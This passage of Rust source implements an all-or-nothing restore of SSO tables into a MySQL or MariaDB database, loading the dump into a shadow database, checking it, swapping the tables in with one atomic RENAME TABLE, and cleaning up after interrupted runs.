//! Restoring into a MySQL or MariaDB database, all or nothing although DDL is not
//! transactional.
//!
//! The dump is loaded into a database of the restore's own (`zsso_new_<db>`), where every
//! table keeps its name and its foreign keys keep theirs (MySQL's foreign-key names are per
//! database). The loaded tables are recounted, re-digested and checked there. Then one
//! `RENAME TABLE`, which MySQL and MariaDB carry out atomically, moves the live tables out into
//! `zsso_old_<db>` and the loaded ones in; the old ones are dropped afterwards. Until that
//! rename nothing in the live database has changed; a run that stopped half-way leaves only
//! those two databases, which the next run removes first.

use crate::conn::MysqlLocation;
use crate::dialect::{MYSQL, session_sql};
use crate::dump::{CAPABILITIES, kinds_of, orphans};
use crate::error::db;
use crate::introspect::{self, MyTable};
use async_trait::async_trait;
use sqlx::{Connection, MySqlConnection, Row};
use zsso_core::backend::{Capabilities, Dependent, Orphan, Restorer, RowBatches, RowSink};
use zsso_core::catalogue::is_sso_table;
use zsso_core::dialect::Dialect;
use zsso_core::progress::Progress;
use zsso_core::schema::{ForeignKey, Table};
use zsso_core::sqlscan::{LexerConfig, Token, tokens_of};
use zsso_core::{Error, Result};

/// Writes the SSO tables into one MySQL or MariaDB database.
pub struct MysqlRestorer {
    conn: MySqlConnection,
    location: MysqlLocation,
    /// The restore's own database, where the dump is loaded.
    shadow: String,
    /// Where the live tables go at the swap, to be dropped.
    old: String,
    set: Vec<String>,
    described: Vec<MyTable>,
    in_tx: bool,
    began: bool,
    /// The server's id of the connection that holds the restore lock.
    session: Option<u64>,
    /// Dependent tables whose foreign keys are pointed at the restored tables after the swap.
    kept: Vec<Kept>,
    /// Foreign keys of the dump left out of the restore.
    left_out: Vec<String>,
    /// The secondary indexes and foreign keys taken out of the dump's `CREATE TABLE`s, to
    /// be added once the rows are in (their `create` already ran).
    deferred: Vec<Split>,
}

/// A foreign key of a table outside the set, kept around the restore.
#[derive(Debug, Clone)]
struct Kept {
    dependent: Dependent,
    /// `schema`.`table` of the dependent, as SQL.
    table_sql: String,
    columns: Vec<String>,
    ref_columns: Vec<String>,
}

impl std::fmt::Debug for MysqlRestorer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("MysqlRestorer")
            .field("location", &self.location)
            .finish()
    }
}

/// `zsso_<what>_<db>`, or with a hash of the name where that would be too long for MySQL.
fn side_database(what: &str, db: &str) -> String {
    let name = format!("zsso_{what}_{db}");
    if name.len() <= 64 {
        return name;
    }
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    db.hash(&mut h);
    format!("zsso_{what}_{:016x}", h.finish())
}

impl MysqlRestorer {
    /// Connects to the database, which must exist.
    pub async fn open(location: &MysqlLocation) -> Result<Self> {
        let conn = location.connect().await?;
        let db_name = location.database().to_string();
        let mut me = Self {
            conn,
            location: location.clone(),
            shadow: side_database("new", &db_name),
            old: side_database("old", &db_name),
            set: Vec::new(),
            described: Vec::new(),
            in_tx: false,
            began: false,
            session: None,
            kept: Vec::new(),
            left_out: Vec::new(),
            deferred: Vec::new(),
        };
        let n: i64 = sqlx::query_scalar(
            "SELECT COUNT(*) FROM information_schema.SCHEMATA WHERE SCHEMA_NAME = ?",
        )
        .bind(&db_name)
        .fetch_one(&mut me.conn)
        .await
        .map_err(|e| db("looking up the database", e))?;
        if n == 0 {
            return Err(Error::Refused {
                reason: format!("{} does not exist", location.describe()),
            });
        }
        Ok(me)
    }

    async fn run(&mut self, sql: &str, what: &str) -> Result<()> {
        sqlx::raw_sql(sqlx::AssertSqlSafe(sql.to_string()))
            .execute(&mut self.conn)
            .await
            .map_err(|e| db(what.to_string(), e))?;
        Ok(())
    }

    /// A new connection in place of one that broke (its lock went with it).
    /// A new connection in place of one that broke. The old session is killed and waited for
    /// (a statement it still runs, such as a RENAME waiting for a lock, ends with it), and the
    /// restore lock is taken again, so that what is asked and removed afterwards is final
    /// and no other restore's. An error if any of that cannot be done.
    async fn reconnect_if_lost(&mut self) -> Result<()> {
        if self.conn.ping().await.is_ok() {
            return Ok(());
        }
        tracing::warn!("the connection to the server was lost: connecting again");
        self.conn = self.location.connect().await?;
        if let Some(old) = self.session.take() {
            // "Unknown thread id" when it has ended already.
            let _ = self
                .run(
                    &format!("KILL CONNECTION {old}"),
                    "ending the broken session",
                )
                .await;
            let mut gone = false;
            for _ in 0..200 {
                let n: i64 = sqlx::query_scalar(
                    "SELECT COUNT(*) FROM information_schema.PROCESSLIST WHERE ID = ?",
                )
                .bind(old)
                .fetch_one(&mut self.conn)
                .await
                .map_err(|e| db("waiting for the broken session to end", e))?;
                if n == 0 {
                    gone = true;
                    break;
                }
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
            if !gone {
                return Err(Error::Refused {
                    reason: format!(
                        "the broken session {old} of the restore did not end within 10 s"
                    ),
                });
            }
        }
        self.take_lock(10).await?;
        self.run(
            &format!("{}SET foreign_key_checks = 0;", session_sql()),
            "pinning the session",
        )
        .await
    }

    /// Takes the restore's lock on this connection, waiting up to `seconds`.
    async fn take_lock(&mut self, seconds: u32) -> Result<()> {
        let live = self.location.database().to_string();
        let got: Option<i64> = sqlx::query_scalar("SELECT GET_LOCK(CONCAT('zsso-restore:', ?), ?)")
            .bind(&live)
            .bind(seconds)
            .fetch_one(&mut self.conn)
            .await
            .map_err(|e| db("taking the restore lock", e))?;
        if got != Some(1) {
            return Err(Error::Refused {
                reason: format!(
                    "another zsso restore into {} is running",
                    self.location.describe()
                ),
            });
        }
        let id: u64 = sqlx::query_scalar("SELECT CONNECTION_ID()")
            .fetch_one(&mut self.conn)
            .await
            .map_err(|e| db("reading the connection's id", e))?;
        self.session = Some(id);
        Ok(())
    }

    /// Whether the set's tables have left the restore's own database (the swap happened).
    async fn swapped(&mut self) -> Result<bool> {
        let left = introspect::table_names(&mut self.conn, &self.shadow).await?;
        Ok(!self.set.iter().any(|t| left.contains(t)))
    }

    async fn end_tx(&mut self) -> Result<()> {
        if self.in_tx {
            self.in_tx = false;
            self.run(
                "COMMIT",
                "committing the rows into the restore's own tables",
            )
            .await?;
        }
        Ok(())
    }

    /// Commits the rows loaded so far, then builds the indexes and foreign keys that were
    /// taken out of the dump's `CREATE TABLE`s (InnoDB sorts each index once instead of
    /// inserting every row into it).
    async fn finish_load(&mut self, progress: Option<&dyn Progress>) -> Result<()> {
        self.end_tx().await?;
        // Every index first: a foreign key needs the index it references, which may be a
        // secondary unique key of a table created after its child.
        let deferred = std::mem::take(&mut self.deferred);
        let indexes = deferred
            .iter()
            .filter_map(|d| Some(("indexes", d, d.indexes.as_ref()?)));
        let fks = deferred
            .iter()
            .filter_map(|d| Some(("foreign keys", d, d.foreign_keys.as_ref()?)));
        for (what, d, sql) in indexes.chain(fks) {
            let step = format!("adding the {what} of {}", d.table);
            if let Some(p) = progress {
                p.step(&step);
            }
            self.run(sql, &step).await?;
        }
        Ok(())
    }

    /// Removes what an interrupted run left: its own databases. Before the swap they hold
    /// nothing live; after it, only the replaced tables, which kept foreign keys may still
    /// reference if the run stopped before it pointed them at the restored ones: then nothing
    /// is removed ([`Self::refuse_keys_left_behind`]).
    async fn clear_leftovers(&mut self) -> Result<()> {
        self.refuse_keys_left_behind().await?;
        for d in [self.shadow.clone(), self.old.clone()] {
            let q = MYSQL.quote_ident(&d);
            self.run(
                &format!("DROP DATABASE IF EXISTS {q}"),
                &format!("removing the leftover database {d} of an interrupted restore"),
            )
            .await?;
        }
        Ok(())
    }

    /// Refuses to go on while a foreign key of a table outside `zsso_old_<db>` references a
    /// table in it: a restore with kept dependents points them at the restored tables right
    /// after its swap, and one that stopped in between left them on the replaced tables,
    /// which the server then will not drop. The error names each such key and the two
    /// statements that point it at the live table of that name, and how many of its rows
    /// would have no parent there.
    async fn refuse_keys_left_behind(&mut self) -> Result<()> {
        let q = |s: &str| MYSQL.quote_ident(s);
        let live = self.location.database().to_string();
        let keys = sqlx::query(
            "SELECT CAST(CONSTRAINT_SCHEMA AS CHAR), CAST(TABLE_NAME AS CHAR), CAST(CONSTRAINT_NAME AS CHAR), \
                    CAST(REFERENCED_TABLE_NAME AS CHAR), CAST(UPDATE_RULE AS CHAR), CAST(DELETE_RULE AS CHAR) \
             FROM information_schema.REFERENTIAL_CONSTRAINTS \
             WHERE UNIQUE_CONSTRAINT_SCHEMA = ? AND CONSTRAINT_SCHEMA <> ? ORDER BY 1, 2, 3",
        )
        .bind(&self.old)
        .bind(&self.old)
        .fetch_all(&mut self.conn)
        .await
        .map_err(|e| db(format!("looking for foreign keys into {}", self.old), e))?;
        let mut found = Vec::new();
        for k in keys {
            let (schema, table, name, parent, on_update, on_delete): (
                String,
                String,
                String,
                String,
                String,
                String,
            ) = (k.get(0), k.get(1), k.get(2), k.get(3), k.get(4), k.get(5));
            let what = format!("foreign key {name} of {schema}.{table}");
            let cols = sqlx::query(
                "SELECT CAST(COLUMN_NAME AS CHAR), CAST(REFERENCED_COLUMN_NAME AS CHAR) FROM information_schema.KEY_COLUMN_USAGE \
                 WHERE CONSTRAINT_SCHEMA = ? AND TABLE_NAME = ? AND CONSTRAINT_NAME = ? \
                 AND REFERENCED_TABLE_NAME IS NOT NULL ORDER BY ORDINAL_POSITION",
            )
            .bind(&schema)
            .bind(&table)
            .bind(&name)
            .fetch_all(&mut self.conn)
            .await
            .map_err(|e| db(format!("reading {what}"), e))?;
            let fk = ForeignKey {
                name: Some(name.clone()),
                columns: cols.iter().map(|r| r.get(0)).collect(),
                ref_table: parent.clone(),
                ref_columns: cols.iter().map(|r| r.get(1)).collect(),
                on_delete: String::new(),
                on_update: String::new(),
            };
            let child = format!("{}.{}", q(&schema), q(&table));
            let restored = format!("{}.{}", q(&live), q(&parent));
            let sql = MYSQL.select_without_parent("COUNT(*)", &child, &fk, &restored);
            let missing: i64 = sqlx::query_scalar(sqlx::AssertSqlSafe(sql))
                .persistent(false)
                .fetch_one(&mut self.conn)
                .await
                .map_err(|e| db(format!("checking the rows of {what}"), e))?;
            let list = |c: &[String]| c.iter().map(|c| q(c)).collect::<Vec<_>>().join(", ");
            let orphans = if missing > 0 {
                format!(
                    " ({missing} of its rows have no parent there: give them one or delete them first)"
                )
            } else {
                String::new()
            };
            found.push(format!(
                "{what} points at the replaced {}.{parent}; point it at the restored {live}.{parent}{orphans}: \
                 `SET foreign_key_checks = 0; ALTER TABLE {child} DROP FOREIGN KEY {}; ALTER TABLE {child} ADD CONSTRAINT {} FOREIGN KEY ({}) REFERENCES {restored} ({}) ON DELETE {on_delete} ON UPDATE {on_update}; SET foreign_key_checks = 1`",
                self.old,
                q(&name),
                q(&name),
                list(&fk.columns),
                list(&fk.ref_columns)
            ));
        }
        if found.is_empty() {
            return Ok(());
        }
        Err(Error::Refused {
            reason: format!(
                "restore refused, nothing was changed: an earlier restore that kept dependent tables stopped after its swap and before it pointed their foreign keys at the restored tables, and {} cannot be removed until they are:\n  {}\nthen restore again",
                self.old,
                found.join("\n  ")
            ),
        })
    }

    async fn in_shadow(&mut self, table: &str) -> Result<bool> {
        if !self.began {
            return Ok(false);
        }
        let n: i64 = sqlx::query_scalar(
            "SELECT COUNT(*) FROM information_schema.TABLES WHERE TABLE_SCHEMA = ? AND TABLE_NAME = ?",
        )
        .bind(&self.shadow)
        .bind(table)
        .fetch_one(&mut self.conn)
        .await
        .map_err(|e| db("looking up a loaded table", e))?;
        Ok(n > 0)
    }

    /// A `CREATE TABLE` of the dump, run in the restore's own database: a foreign key to a
    /// table outside the set names the live database's table, which must exist.
    async fn qualify_outside_references(&mut self, sql: &str) -> Result<String> {
        let live = self.location.database().to_string();
        let existing = introspect::table_names(&mut self.conn, &live).await?;
        let mut out = String::with_capacity(sql.len());
        let mut rest = sql;
        while let Some(at) = rest.find("REFERENCES `") {
            let (head, tail) = rest.split_at(at + "REFERENCES ".len());
            out.push_str(head);
            let end = tail[1..].find('`').map(|e| e + 2).unwrap_or(tail.len());
            let name = tail[1..end - 1].replace("``", "`");
            if !is_sso_table(&name) {
                if !existing.contains(&name) {
                    return Err(Error::Refused {
                        reason: format!(
                            "the dump has a foreign key to {name}, outside the SSO tables, and {} has no table {name}",
                            self.location.describe()
                        ),
                    });
                }
                out.push_str(&MYSQL.quote_ident(&live));
                out.push('.');
            }
            out.push_str(&tail[..end]);
            rest = &tail[end..];
        }
        out.push_str(rest);
        Ok(out)
    }

    fn parent_db(&self) -> impl Fn(&str) -> String + Sync + use<> {
        let set = self.set.clone();
        let shadow = self.shadow.clone();
        let live = self.location.database().to_string();
        move |t: &str| {
            if set.iter().any(|s| s == t) {
                shadow.clone()
            } else {
                live.clone()
            }
        }
    }
}

#[async_trait]
impl Restorer for MysqlRestorer {
    fn dialect(&self) -> &'static dyn Dialect {
        &MYSQL
    }

    fn capabilities(&self) -> Capabilities {
        CAPABILITIES
    }

    fn describe(&self) -> String {
        self.location.describe()
    }

    async fn tables(&mut self) -> Result<Vec<String>> {
        let live = self.location.database().to_string();
        introspect::table_names(&mut self.conn, &live).await
    }

    async fn dependents(&mut self, set: &[String]) -> Result<Vec<Dependent>> {
        let live = self.location.database().to_string();
        let rows = sqlx::query(
            "SELECT DISTINCT CAST(TABLE_SCHEMA AS CHAR), CAST(TABLE_NAME AS CHAR), CAST(REFERENCED_TABLE_NAME AS CHAR), \
                    CAST(CONSTRAINT_NAME AS CHAR) \
             FROM information_schema.KEY_COLUMN_USAGE WHERE REFERENCED_TABLE_SCHEMA = ? AND REFERENCED_TABLE_NAME IS NOT NULL \
             ORDER BY 1, 2, 4",
        )
        .bind(&live)
        .fetch_all(&mut self.conn)
        .await
        .map_err(|e| db("looking for tables that depend on the SSO tables", e))?;
        let mut out = Vec::new();
        for r in rows {
            let (schema, table, parent): (String, String, String) = (r.get(0), r.get(1), r.get(2));
            let inside = schema == live && set.contains(&table);
            if set.contains(&parent) && !inside && schema != self.shadow && schema != self.old {
                let constraint: String = r.get(3);
                let definition =
                    foreign_key_definition(&mut self.conn, &schema, &table, &constraint).await?;
                out.push(Dependent {
                    table: if schema == live {
                        table
                    } else {
                        format!("{schema}.{table}")
                    },
                    references: parent,
                    constraint: Some(constraint),
                    definition: Some(definition),
                });
            }
        }
        Ok(out)
    }

    async fn detach_dependent(&mut self, d: &Dependent) -> Result<()> {
        // Nothing live changes before the swap: the key is only noted, to be pointed at the
        // restored table after it.
        let live = self.location.database().to_string();
        let (schema, table) = match d.table.split_once('.') {
            Some((s, t)) => (s.to_string(), t.to_string()),
            None => (live, d.table.clone()),
        };
        let constraint = d.constraint.clone().unwrap_or_default();
        let cols = sqlx::query(
            "SELECT CAST(COLUMN_NAME AS CHAR), CAST(REFERENCED_COLUMN_NAME AS CHAR) FROM information_schema.KEY_COLUMN_USAGE \
             WHERE TABLE_SCHEMA = ? AND TABLE_NAME = ? AND CONSTRAINT_NAME = ? \
             AND REFERENCED_TABLE_NAME IS NOT NULL ORDER BY ORDINAL_POSITION",
        )
        .bind(&schema)
        .bind(&table)
        .bind(&constraint)
        .fetch_all(&mut self.conn)
        .await
        .map_err(|e| db(format!("reading foreign key {constraint} of {}", d.table), e))?;
        self.kept.push(Kept {
            dependent: d.clone(),
            table_sql: format!(
                "{}.{}",
                MYSQL.quote_ident(&schema),
                MYSQL.quote_ident(&table)
            ),
            columns: cols.iter().map(|r| r.get(0)).collect(),
            ref_columns: cols.iter().map(|r| r.get(1)).collect(),
        });
        Ok(())
    }

    async fn reattach_dependent(&mut self, d: &Dependent) -> Result<()> {
        // Before the swap: every row of the dependent must find its parent among the restored
        // rows, or the restore is refused with nothing live changed.
        self.finish_load(None).await?;
        let Some(k) = self.kept.iter().find(|k| k.dependent == *d).cloned() else {
            return Err(Error::Usage(format!("{} was not kept", d.table)));
        };
        let fk = ForeignKey {
            name: d.constraint.clone(),
            columns: k.columns.clone(),
            ref_table: d.references.clone(),
            ref_columns: k.ref_columns.clone(),
            on_delete: String::new(),
            on_update: String::new(),
        };
        let parent = format!(
            "{}.{}",
            MYSQL.quote_ident(&self.shadow),
            MYSQL.quote_ident(&d.references)
        );
        let sql = MYSQL.select_without_parent("COUNT(*)", &k.table_sql, &fk, &parent);
        let n: i64 = sqlx::query_scalar(sqlx::AssertSqlSafe(sql))
            .persistent(false)
            .fetch_one(&mut self.conn)
            .await
            .map_err(|e| db(format!("checking the rows of {}", d.table), e))?;
        if n > 0 {
            return Err(Error::Refused {
                reason: format!(
                    "{n} rows of {} reference {} rows that the restored data does not have: its foreign key {} would not hold",
                    d.table,
                    d.references,
                    d.constraint.as_deref().unwrap_or_default()
                ),
            });
        }
        Ok(())
    }

    async fn begin(&mut self, set: &[String]) -> Result<()> {
        self.take_lock(0).await?;
        let live = self.location.database().to_string();
        self.set = set.to_vec();
        self.clear_leftovers().await?;
        let q = MYSQL.quote_ident(&self.shadow);
        let charset: (String, String) = {
            let r = sqlx::query(
                "SELECT CAST(DEFAULT_CHARACTER_SET_NAME AS CHAR), CAST(DEFAULT_COLLATION_NAME AS CHAR) \
                 FROM information_schema.SCHEMATA WHERE SCHEMA_NAME = ?",
            )
            .bind(&live)
            .fetch_one(&mut self.conn)
            .await
            .map_err(|e| db("reading the database's character set", e))?;
            (r.get(0), r.get(1))
        };
        self.run(
            &format!(
                "CREATE DATABASE {q} CHARACTER SET {} COLLATE {}",
                charset.0, charset.1
            ),
            "creating the restore's own database",
        )
        .await?;
        self.began = true;
        self.run(&format!("USE {q}"), "using the restore's own database")
            .await?;
        self.run(
            &format!("{}SET foreign_key_checks = 0;", session_sql()),
            "pinning the session",
        )
        .await
    }

    fn leave_out_foreign_keys(&mut self, names: &[String]) {
        self.left_out = names.to_vec();
    }

    async fn drop_table(&mut self, _table: &str) -> Result<()> {
        // The live table stays as it is until the swap replaces it.
        Ok(())
    }

    async fn execute(&mut self, sql: &str) -> Result<()> {
        let head = sql
            .trim_start()
            .get(..6)
            .unwrap_or_default()
            .to_ascii_uppercase();
        let sql = if head == "CREATE" {
            self.end_tx().await?;
            let mut rewritten = sql.to_string();
            for name in &self.left_out {
                rewritten = MYSQL.strip_foreign_key(&rewritten, name);
            }
            let rewritten = self.qualify_outside_references(&rewritten).await?;
            // The rewrites work on text: what runs must be, token for token, what the guard
            // read with exactly those changes, or a comment or string could have become SQL.
            let live = self.location.database().to_string();
            let want = expected_tokens(&tokens_of(sql, LexerConfig::MYSQL)?, &self.left_out, &live);
            if tokens_of(&rewritten, LexerConfig::MYSQL)? != want {
                return Err(Error::Refused {
                    reason: "a CREATE TABLE of the dump does not read the same once its foreign keys are rewritten: refused".into(),
                });
            }
            match split_secondary(&rewritten)? {
                Some(mut split) => {
                    let create = std::mem::take(&mut split.create);
                    self.deferred.push(split);
                    create
                }
                None => rewritten,
            }
        } else {
            if head == "INSERT" && !self.in_tx {
                self.run("START TRANSACTION", "starting to load the rows")
                    .await?;
                self.in_tx = true;
            }
            sql.to_string()
        };
        if head == "INSERT" {
            // Rows go as one plain query (one round trip; the guard has proven the text is
            // one INSERT of literals into a restored table).
            sqlx::raw_sql(sqlx::AssertSqlSafe(sql))
                .execute(&mut self.conn)
                .await
                .map_err(|e| db("inserting rows of the dump", e))?;
            return Ok(());
        }
        // A prepared statement is one statement, whatever the text holds.
        sqlx::query(sqlx::AssertSqlSafe(sql))
            .persistent(false)
            .execute(&mut self.conn)
            .await
            .map_err(|e| db("running a statement of the dump", e))?;
        Ok(())
    }

    async fn end_load(&mut self, progress: &dyn Progress) -> Result<()> {
        self.finish_load(Some(progress)).await
    }

    async fn describe_table(&mut self, table: &str) -> Result<Table> {
        self.finish_load(None).await?;
        let live = self.location.database().to_string();
        let t = if self.in_shadow(table).await? {
            let shadow = self.shadow.clone();
            introspect::describe(&mut self.conn, &shadow, table, Some(&live)).await?
        } else {
            introspect::describe(&mut self.conn, &live, table, None).await?
        };
        let out = t.table.clone();
        self.described.retain(|d| d.table.name != table);
        self.described.push(t);
        Ok(out)
    }

    async fn stream_rows(&mut self, table: &Table, sink: &mut dyn RowSink) -> Result<()> {
        self.finish_load(None).await?;
        let kinds = kinds_of(&self.described, table)?.to_vec();
        let database = if self.in_shadow(&table.name).await? {
            self.shadow.clone()
        } else {
            self.location.database().to_string()
        };
        introspect::stream_rows(&mut self.conn, &database, table, &kinds, sink).await
    }

    async fn check_triggers(&mut self, _tables: &[Table]) -> Result<()> {
        // A MySQL dump cannot create triggers (the guard refuses them).
        Ok(())
    }

    async fn orphans(&mut self, tables: &[Table]) -> Result<Vec<Orphan>> {
        self.finish_load(None).await?;
        let shadow = self.shadow.clone();
        let parent = self.parent_db();
        orphans(&mut self.conn, &shadow, tables, &parent, false).await
    }

    async fn collation_duplicates(
        &mut self,
        table: &Table,
        rows: &mut dyn RowBatches,
    ) -> Result<Vec<String>> {
        // The unique keys that loading could find equal: (name, [(column index, prefix)]).
        let col = |name: &str| table.columns.iter().position(|c| c.name == name);
        let mut uniques: Vec<(&str, Vec<(usize, Option<u32>)>)> = Vec::new();
        let texty = |k: usize| {
            let t = table.columns[k].data_type.to_ascii_lowercase();
            t.contains("char") || t.contains("text")
        };
        let primary = zsso_core::schema::Index {
            name: "PRIMARY".into(),
            unique: true,
            origin: "primary_key".into(),
            columns: table.primary_key.clone(),
            create_sql: None,
        };
        let has_primary = !table.primary_key.is_empty()
            && !table.indexes.iter().any(|i| i.origin == "primary_key");
        for i in table
            .indexes
            .iter()
            .chain(has_primary.then_some(&primary))
            .filter(|i| i.unique)
        {
            let cols: Option<Vec<(usize, Option<u32>)>> = i
                .columns
                .iter()
                .map(|c| match c.split_once('(') {
                    Some((n, p)) => Some((col(n)?, p.trim_end_matches(')').parse().ok())),
                    None => Some((col(c)?, None)),
                })
                .collect();
            let Some(cols) = cols else { continue };
            // One integer column cannot collide: integers are never changed. Any other key
            // can, by the collation, by a prefix, or by datetimes that lost microseconds.
            let integer = |k: usize| {
                table.columns[k]
                    .data_type
                    .to_ascii_lowercase()
                    .contains("int")
            };
            if !(cols.len() == 1 && integer(cols[0].0)) {
                uniques.push((&i.name, cols));
            }
        }
        if uniques.is_empty() {
            return Ok(Vec::new());
        }
        let mut used: Vec<usize> = uniques
            .iter()
            .flat_map(|(_, c)| c.iter().map(|x| x.0))
            .collect();
        used.sort_unstable();
        used.dedup();
        let id = col("id");
        // A temporary table of the session: no other session sees it, and it changes nothing.
        let tmp = format!(
            "{}.`zsso_key_check`",
            MYSQL.quote_ident(self.location.database())
        );
        let defs: Vec<String> = used
            .iter()
            .map(|&k| {
                // Text compares under the target's collation; everything else as it is.
                let t = &table.columns[k].data_type;
                if texty(k) {
                    format!("`c{k}` {t} COLLATE utf8mb4_unicode_ci")
                } else {
                    format!("`c{k}` {t}")
                }
            })
            .collect();
        self.run(
            &format!("DROP TEMPORARY TABLE IF EXISTS {tmp}"),
            "clearing the key check",
        )
        .await?;
        self.run(
            &format!(
                "CREATE TEMPORARY TABLE {tmp} (`zsso_row` VARCHAR(200), {}) DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_ci",
                defs.join(", ")
            ),
            "creating a temporary table to check unique keys under the target's collation",
        )
        .await?;
        let mut batch = Vec::new();
        let mut n = 0u64;
        while rows.next_batch(&mut batch)? {
            let mut sql = format!("INSERT INTO {tmp} VALUES ");
            for (r, row) in batch.iter().enumerate() {
                n += 1;
                if r > 0 {
                    sql.push(',');
                }
                let key = match id.map(|k| &row[k]) {
                    Some(zsso_core::value::Value::Integer(i)) => format!("id={i}"),
                    _ => format!("row {n}"),
                };
                sql.push_str(&format!("('{key}'"));
                for &k in &used {
                    sql.push(',');
                    MYSQL.write_literal(&row[k], &mut sql);
                }
                sql.push(')');
            }
            if !batch.is_empty() {
                self.run(&sql, "filling the key check").await?;
            }
        }
        let mut found = Vec::new();
        for (name, cols) in &uniques {
            let key: Vec<String> = cols
                .iter()
                .map(|&(k, p)| match p {
                    Some(p) => format!("LEFT(`c{k}`, {p})"),
                    None => format!("`c{k}`"),
                })
                .collect();
            let not_null: Vec<String> = cols
                .iter()
                .map(|&(k, _)| format!("`c{k}` IS NOT NULL"))
                .collect();
            let q = format!(
                "SELECT CAST(GROUP_CONCAT(`zsso_row` ORDER BY `zsso_row` SEPARATOR ', ') AS CHAR), COUNT(*) FROM {tmp} WHERE {} GROUP BY {} HAVING COUNT(*) > 1 ORDER BY 1",
                not_null.join(" AND "),
                key.join(", ")
            );
            let groups = sqlx::query(sqlx::AssertSqlSafe(q))
                .fetch_all(&mut self.conn)
                .await
                .map_err(|e| db("checking unique keys under the target's collation", e))?;
            let names: Vec<&str> = cols
                .iter()
                .map(|&(k, _)| table.columns[k].name.as_str())
                .collect();
            for g in groups {
                let rows: String = g.try_get(0).unwrap_or_default();
                found.push(format!(
                    "{} rows {rows}: column{} {} distinct in the bundle, equal under utf8mb4_unicode_ci in unique index {name}",
                    table.name,
                    if names.len() > 1 { "s" } else { "" },
                    names.join(", ") + if names.len() > 1 { " are" } else { " is" }
                ));
            }
        }
        self.run(
            &format!("DROP TEMPORARY TABLE {tmp}"),
            "dropping the key check",
        )
        .await?;
        Ok(found)
    }

    async fn missing_references(&mut self, table: &str, fk: &ForeignKey) -> Result<u64> {
        self.finish_load(None).await?;
        let parent = format!(
            "{}.{}",
            MYSQL.quote_ident(&(self.parent_db())(&fk.ref_table)),
            MYSQL.quote_ident(&fk.ref_table)
        );
        let sql = MYSQL.select_without_parent("COUNT(*)", &MYSQL.quote_ident(table), fk, &parent);
        let n: i64 = sqlx::query_scalar(sqlx::AssertSqlSafe(sql))
            .persistent(false)
            .fetch_one(&mut self.conn)
            .await
            .map_err(|e| db(format!("checking the references of {table}"), e))?;
        Ok(n as u64)
    }

    async fn commit(&mut self) -> Result<()> {
        self.finish_load(None).await?;
        let live = self.location.database().to_string();
        let existing = introspect::table_names(&mut self.conn, &live).await?;
        let q = |s: &str| MYSQL.quote_ident(s);
        let old = q(&self.old);
        self.run(
            &format!("CREATE DATABASE {old}"),
            "creating the database the replaced tables go to",
        )
        .await?;
        let mut moves = Vec::new();
        for t in &self.set {
            if existing.contains(t) {
                moves.push(format!("{}.{} TO {old}.{}", q(&live), q(t), q(t)));
            }
        }
        for t in &self.set {
            moves.push(format!(
                "{}.{} TO {}.{}",
                q(&self.shadow),
                q(t),
                q(&live),
                q(t)
            ));
        }
        zsso_core::fault::point("restore.swap")?;
        // The swap: one statement, carried out whole or not at all.
        if let Err(e) = self
            .run(
                &format!("RENAME TABLE {}", moves.join(", ")),
                "swapping the restored tables in (nothing live was changed)",
            )
            .await
        {
            // A broken connection may have carried the swap out before it broke: then the
            // restore is done, and only the tidying up is left.
            let done = if e.connection_lost() {
                let asked = match self.reconnect_if_lost().await {
                    Ok(()) => self.swapped().await,
                    Err(again) => Err(again),
                };
                match asked {
                    Ok(done) => done,
                    Err(_) => {
                        return Err(Error::CommitUnknown {
                            database: self.location.describe(),
                            source: Box::new(e),
                        });
                    }
                }
            } else {
                false
            };
            if !done {
                // Nothing moved: remove the loaded tables now (the next run would otherwise).
                let _ = self.rollback().await;
                return Err(e);
            }
            tracing::warn!(
                "the connection broke as the restored tables were swapped in: the swap happened"
            );
        }
        self.began = false;
        // From here on the restore has happened: a failure is reported as after the commit.
        if let Err(e) = self
            .run(&format!("USE {}", q(&live)), "using the live database")
            .await
        {
            if !self.kept.is_empty() {
                return Err(Error::AfterCommit {
                    what: format!(
                        "the kept foreign keys still point at the replaced tables in {}: point them at the restored ones by hand",
                        self.old
                    ),
                    source: Box::new(e),
                });
            }
            tracing::warn!(error = %zsso_core::error::chain(&e), "the restore is complete; its leftovers are removed by the next run");
            return Ok(());
        }
        // The kept foreign keys followed the replaced tables out: point them at the restored
        // ones (checked before the swap; with foreign_key_checks off this changes only the
        // definition).
        for k in std::mem::take(&mut self.kept) {
            let name = k.dependent.constraint.clone().unwrap_or_default();
            let definition = k.dependent.definition.clone().unwrap_or_default();
            let drop = format!("ALTER TABLE {} DROP FOREIGN KEY {}", k.table_sql, q(&name));
            let add = format!(
                "ALTER TABLE {} ADD CONSTRAINT {} {definition}",
                k.table_sql,
                q(&name)
            );
            for sql in [drop, add] {
                if let Err(e) = self
                    .run(&sql, "pointing a kept foreign key at the restored tables")
                    .await
                {
                    return Err(Error::AfterCommit {
                        what: format!(
                            "the restored tables are in place, and foreign key {name} of {} still points at the replaced ones in {}: run `{sql}` by hand (the replaced tables are kept until then)",
                            k.dependent.table, self.old
                        ),
                        source: Box::new(e),
                    });
                }
            }
        }
        // The restore has happened; what is left is tidying up, which the next run redoes.
        let cleanup = async {
            self.clear_leftovers().await?;

            self.run(
                "DO RELEASE_LOCK(CONCAT('zsso-restore:', DATABASE()))",
                "releasing the lock",
            )
            .await
        }
        .await;
        if let Err(e) = cleanup {
            tracing::warn!(error = %zsso_core::error::chain(&e), "the restore is complete; its leftovers are removed by the next run");
        }
        Ok(())
    }

    async fn rollback(&mut self) -> Result<()> {
        self.in_tx = false;
        let _ = self.run("ROLLBACK", "rolling back").await;
        // Nothing live changes before the swap; what the restore loaded is in its own
        // database, removed over a new connection if the old one broke (or by the next run).
        if let Err(e) = self.reconnect_if_lost().await {
            tracing::warn!(error = %zsso_core::error::chain(&e), "nothing live was changed; the restore's own databases are removed by the next run");
            return Ok(());
        }
        let live = self.location.database().to_string();
        self.run(
            &format!("USE {}", MYSQL.quote_ident(&live)),
            "using the live database",
        )
        .await?;
        self.clear_leftovers().await?;
        self.began = false;
        self.run(
            "DO RELEASE_LOCK(CONCAT('zsso-restore:', DATABASE()))",
            "releasing the lock",
        )
        .await?;
        let _ = self.conn.ping().await;
        Ok(())
    }
}

/// The definition of foreign key `name` of `schema`.`table` as `SHOW CREATE TABLE` prints it,
/// after its `CONSTRAINT` name.
async fn foreign_key_definition(
    conn: &mut MySqlConnection,
    schema: &str,
    table: &str,
